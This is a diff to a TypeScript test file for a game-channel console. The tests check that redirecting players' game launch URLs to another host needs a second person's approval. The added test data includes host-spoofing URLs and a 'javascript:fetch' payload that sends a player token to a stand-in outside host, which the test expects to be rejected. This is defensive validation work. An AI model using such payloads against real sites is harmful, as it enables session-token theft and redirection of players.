@@ -24,6 +24,7 @@ const TERMS = {
   tokenMinutes: 15,
   roundMinutes: 60,
 };
+const ELSEWHERE = 'https://games-alpha.example/log-in?t={token}';
 const reason = 'as agreed with the provider';
 
 let t: TestApp;
@@ -52,6 +53,8 @@ const alpha = async () => {
   if (!found) throw new Error('no channel');
   return found;
 };
+const previewOf = async (id: string | null) =>
+  (await t.ask('/console/approvals/detail', { id: id ?? '' }, { token: owner.token })).preview;
 const audited = async () => (await ask('/console/audit/list', { view: '' })).content.map(({ action }) => action);
 
 describe('game channels on the console (Spec: E7, F1)', () => {
@@ -61,6 +64,13 @@ describe('game channels on the console (Spec: E7, F1)', () => {
     expect((await call('/console/channels/create', again)).code).toBe('channel_exists');
     expect(await alpha()).toMatchObject({ isNew: true, pending: null });
     const { approval } = await ask('/console/channels/switch', { id: 'alpha', state: 'open', reason });
+    expect(await previewOf(approval)).toEqual(
+      expect.arrayContaining([
+        { label: 'Kind', before: '', after: 'Seamless: from the player’s wallet' },
+        { label: 'Signature', before: '', after: 'rsa' },
+        { label: 'Game address', before: '', after: TERMS.launchUrl },
+      ]),
+    );
     expect(await alpha()).toMatchObject({ state: 'paused', pending: approval });
     await agree(t, owner);
     expect(await alpha()).toMatchObject({ state: 'open', isNew: false, pending: null });
@@ -132,7 +142,7 @@ describe('game channels on the console (Spec: E7, F1)', () => {
     const row = () =>
       t.db
         .selectFrom('channels')
-        .select(['key_print', 'largest_win_minor'])
+        .select(['key_print', 'largest_win_minor', 'launch_url'])
         .where('channel_id', '=', 'raced')
         .executeTakeFirstOrThrow();
     const agreed = await row();
@@ -140,6 +150,7 @@ describe('game channels on the console (Spec: E7, F1)', () => {
     const changes = [
       () => call('/console/channels/rotate', { id: 'raced', reason }),
       () => call('/console/channels/save', { id: 'raced', ...TERMS, limits, reason }),
+      () => call('/console/channels/save', { id: 'raced', ...TERMS, launchUrl: ELSEWHERE, reason }),
     ];
     for (const change of changes) {
       await t.db
@@ -173,6 +184,50 @@ describe('game channels on the console (Spec: E7, F1)', () => {
     expect(saved).toMatchObject({ reason, detail: { before: { round_minutes: 60 }, after: { round_minutes: 90 } } });
     const unfit = { id: 'alpha', ...TERMS, launchUrl: 'https://games.example/{game}', reason };
     expect((await call('/console/channels/save', unfit)).code).toBe('input_invalid');
+  });
+
+  it('send players to another host when another person agrees, and to another page of the same host at once', async () => {
+    const saved = (launchUrl: string) =>
+      ask('/console/channels/save', { id: 'alpha', ...TERMS, name: 'Alpha', roundMinutes: 90, launchUrl, reason });
+    const page = 'https://games.example/new/{game}?t={token}';
+    expect(await saved(page)).toEqual({ approval: null });
+    expect(await alpha()).toMatchObject({ launchUrl: page, pending: null });
+    const others = [
+      ELSEWHERE,
+      'https://games.example@elsewhere.example/?t={token}',
+      'https://games.example:8443/?t={token}',
+      'https://{game}.games.example/?t={token}',
+      '/sandbox/{game}?t={token}',
+    ];
+    for (const other of others) {
+      const { approval } = await saved(other);
+      expect(approval, other).not.toBeNull();
+      expect(await alpha()).toMatchObject({ launchUrl: page, pending: approval });
+      expect(await previewOf(approval)).toEqual([{ label: 'Game address', before: page, after: other }]);
+      await t.ask('/console/approvals/reject', { id: approval ?? '', reason: 'not theirs' }, { token: owner.token });
+    }
+    const script = 'javascript:fetch("//elsewhere.example/{token}")';
+    const request = { kind: 'channel_change', target: 'alpha', reason, payload: { launchUrl: script } };
+    expect((await call('/console/approvals/request', request)).code).toBe('input_invalid');
+    const { approval } = await saved(ELSEWHERE);
+    await agree(t, owner);
+    expect(await alpha()).toMatchObject({ launchUrl: ELSEWHERE, pending: null });
+    const { content } = await t.ask('/console/approvals/list', { view: 'approved' }, { token: owner.token });
+    expect(content.find(({ id }) => id === approval)?.summary).toBe(
+      'Change where the games of the game channel Alpha open',
+    );
+  });
+
+  it('that another person sends to another host at this instant are not sent back by one', async () => {
+    const terms = { id: 'alpha', ...TERMS, name: 'Alpha', roundMinutes: 90, reason };
+    const changed = await t.db.transaction().execute(async (tx) => {
+      await tx.updateTable('channels').set({ launch_url: TERMS.launchUrl }).where('channel_id', '=', 'alpha').execute();
+      const asked = call('/console/channels/save', { ...terms, launchUrl: ELSEWHERE });
+      while ((await countWaiting(t.db)) === 0) await new Promise(setImmediate);
+      return { asked };
+    });
+    expect(await changed.asked).toMatchObject({ code: 'approval_pending' });
+    expect((await alpha()).launchUrl).toBe(TERMS.launchUrl);
   });
 
   it('make a loss of an open round sooner when another person agrees, and later at once', async () => {
